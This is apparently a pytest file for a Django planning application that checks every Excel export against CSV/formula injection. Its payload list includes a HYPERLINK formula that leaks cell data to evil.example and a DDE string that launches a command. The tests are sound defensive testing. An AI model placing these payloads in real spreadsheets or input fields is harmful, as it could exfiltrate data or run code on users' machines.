"""CSV/formula injection: text that a spreadsheet would run as a formula (=HYPERLINK(...),
+1+1, -2+3, @SUM(A1), a leading tab or carriage return) leaves every Excel export of innoplan
as plain text. Each download is opened with openpyxl: no cell is a formula (data_type "f") and
no text cell starts with a character that makes Excel evaluate it.

The export paths, found by every use of ``xlsx_response``/``workbook_bytes``/openpyxl in the
code: each register's list (``?format=xlsx``), an indicator's records (``?format=xlsx``), the
import templates, and the audit trail (``/audit/?format=xlsx``). Import reports are pages,
not downloads. ``test_every_export_path_goes_through_safe_cell`` fails when a new writer of
workbooks appears that this file does not know.
"""

from __future__ import annotations

import re
from datetime import date
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from innoplan.core.excel import FORMULA_STARTS, safe_cell
from innoplan.registry.choices import BaseKind, Level, PlatformKind, QualificationKind
from innoplan.registry.models import (
    Base,
    BrandEvent,
    Fund,
    FundScale,
    Park,
    Platform,
    Qualification,
    TalentRecognition,
    Team,
    TeamMember,
)
from innoplan.registry.registers import IMPORTED
from tests.registry.builders import (
    REGISTER_LISTS,
    make,
    make_organisation,
    make_patent,
    make_talent,
)

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parents[2] / "src" / "innoplan"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def town(db):
    from innoplan.accounts.choices import DepartmentKind
    from innoplan.accounts.models import Department

    return Department.objects.create(code="songzhuang", name="宋庄镇", kind=DepartmentKind.TOWN)


def hostile_records(town, payload: str, serial: int) -> None:
    """One record of every register, each free-text field holding ``payload``."""
    organisation = make_organisation(
        payload, town=town, former_names=payload, settled_on=date(2020, 1, 1)
    )
    make(
        Qualification,
        organisation=organisation,
        kind=QualificationKind.HIGH_TECH,
        certificate_no=payload,
        valid_from=date(2024, 1, 1),
    )
    make(
        Platform,
        name=payload,
        kind=PlatformKind.KEY_LABORATORY,
        level=Level.MUNICIPAL,
        host=organisation,
        valid_from=date(2021, 1, 1),
    )
    fund = make(Fund, name=payload, manager=payload, valid_from=date(2021, 1, 1))
    make(FundScale, fund=fund, effective_on=date(2021, 1, 1), amount=Decimal("500000000"))
    make(BrandEvent, name=payload, organiser=payload, valid_from=date(2019, 1, 1))
    make(
        Base,
        name=payload,
        kind=BaseKind.SCIENCE_POPULARISATION,
        level=Level.DISTRICT,
        host=organisation,
        town=town,
        valid_from=date(2021, 1, 1),
    )
    make(Park, name=payload, town=town, valid_from=date(2020, 1, 1))
    make_patent(owners=[organisation], title=payload)
    talent = make_talent(payload[:100], employer=organisation, title=payload[:100])
    make(
        TalentRecognition,
        talent=talent,
        kind="canal_talent",
        tier="leading",
        certificate_no=payload,
        valid_from=date(2023, 5, 1),
    )
    team = make(
        Team,
        name=payload,
        organisation=organisation,
        recognition_year=2024,
        valid_from=date(2024, 6, 1),
    )
    TeamMember.objects.create(team=team, talent=talent, is_leader=True)


@pytest.fixture
def hostile(town):
    for serial, payload in enumerate(PAYLOADS):
        hostile_records(town, payload, serial)
    return PAYLOADS


def cells(response):
    """Every cell of every sheet of the downloaded workbook."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(found, payloads=()) -> None:
    """No formula cell, no text Excel would evaluate; each payload is there, as text."""
    formulas = [(c.coordinate, c.value) for c in found if c.data_type == "f"]
    assert formulas == []
    live = [
        (c.coordinate, c.value)
        for c in found
        if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    ]
    assert live == []
    # XML keeps no bare carriage return: "\r" reads back as "\n".
    texts = [c.value.replace("\r", "\n") for c in found if isinstance(c.value, str)]
    for payload in payloads:
        shown = payload.replace("\r", "\n")
        assert any(shown in text for text in texts), f"{payload!r} is not in the export"


# --- the neutraliser itself ------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_keeps_formula_text_as_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [Decimal("-2"), -2, 3.5, date(2025, 1, 1), None, "智云科技"])
def test_safe_cell_leaves_numbers_dates_and_plain_text_alone(value):
    assert safe_cell(value) == (int(value) if isinstance(value, Decimal) else value)


# --- every export path -----------------------------------------------------------------------


@pytest.mark.parametrize("register", REGISTER_LISTS)
def test_every_register_export_keeps_formula_text_inert(client, leader, hostile, register):
    client.force_login(leader)
    response = client.get(reverse(f"registry:{register}_list") + "?format=xlsx")
    found = cells(response)
    # Each register shows at least its name or title column, which holds the payloads;
    # qualifications and recognitions show their holder's name.
    assert_inert(found, hostile if register != "talent" else [p[:100] for p in hostile])


def test_a_search_for_formula_text_exports_inert_too(client, leader, hostile):
    client.force_login(leader)
    url = reverse("registry:organisation_list")
    response = client.get(url, {"q": "=HYPERLINK", "format": "xlsx"})
    found = cells(response)
    assert_inert(found, [PAYLOADS[0]])


def test_the_indicator_records_export_keeps_formula_text_inert(client, leader, hostile):
    from innoplan.plans.ingest.schema import read_plan_file
    from innoplan.plans.services import metric_bindings_load, plan_load, read_bindings_file
    from tests.conftest import PLAN_FIXTURE

    plan = plan_load(document=read_plan_file(PLAN_FIXTURE)).plan
    bindings = PLAN_FIXTURE.with_name("tongzhou_2024_metrics.yaml")
    metric_bindings_load(plan=plan, bindings=read_bindings_file(bindings), source=bindings.name)
    indicator = plan.indicators.get(metric_key="high_tech_enterprises")
    client.force_login(leader)
    response = client.get(
        reverse("plans:indicator_records", args=[indicator.pk]), {"format": "xlsx"}
    )
    assert_inert(cells(response), hostile)


@pytest.mark.parametrize("register", [r.slug for r in IMPORTED])
def test_the_import_templates_hold_no_formula(client, plan_owner, register):
    client.force_login(plan_owner)
    response = client.get(reverse("registry:import_template", args=[register]))
    assert_inert(cells(response))


def test_the_audit_export_keeps_formula_text_inert(client, leader, audit_admin, hostile):
    # Audit records that carry the payloads: the object names of the registry changes, and
    # an export whose filter was typed by the user.
    client.force_login(leader)
    client.get(reverse("registry:organisation_list"), {"q": "+1+1", "format": "xlsx"})
    auditor = client.__class__()
    auditor.force_login(audit_admin)
    response = auditor.get(reverse("audit:event_list"), {"format": "xlsx"})
    found = cells(response)
    assert_inert(found)
    assert any(isinstance(c.value, str) and "+1+1" in c.value for c in found)


def test_every_export_path_goes_through_safe_cell():
    """The places that write a workbook are the ones this file tests; each writes user data
    only through ``safe_cell`` (core/excel.py) or writes no user data (the import templates)."""
    writers = {}
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if re.search(r"\b(Workbook\(|xlsx_response\(|workbook_bytes\(|write_template\()", text):
            writers[str(path.relative_to(SRC))] = text
    assert set(writers) == {
        "core/excel.py",  # workbook_bytes: every data cell through safe_cell
        "audit/exports.py",  # xlsx_response: core/excel.py's workbook, recorded
        "core/spreadsheets.py",  # write_template: headers and example rows from the code
        "registry/imports.py",  # the templates' example rows
        "registry/views.py",  # register lists
        "plans/views.py",  # indicator records
        "audit/views.py",  # the audit trail
        "supervision/views.py",  # the milestone list
        "supervision/imports.py",  # the milestone import template
    }, sorted(writers)
    assert "sheet.append([safe_cell(v) for v in row])" in writers["core/excel.py"]
